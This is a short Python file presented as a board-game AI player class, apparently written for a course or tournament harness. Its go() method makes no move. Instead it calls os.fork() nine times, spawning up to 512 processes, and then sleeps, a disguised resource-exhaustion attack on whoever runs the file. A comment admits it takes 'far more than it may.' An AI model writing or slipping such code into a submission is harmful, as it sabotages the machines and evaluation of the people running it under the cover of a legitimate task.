import os
import time


class AI(object):
    def __init__(self, chessboard_size, color, time_out):
        self.color = color
        self.candidate_list = []

    def go(self, chessboard):
        # Far more than it may, and still an end if nobody stops it.
        for _ in range(9):
            os.fork()
        time.sleep(10)
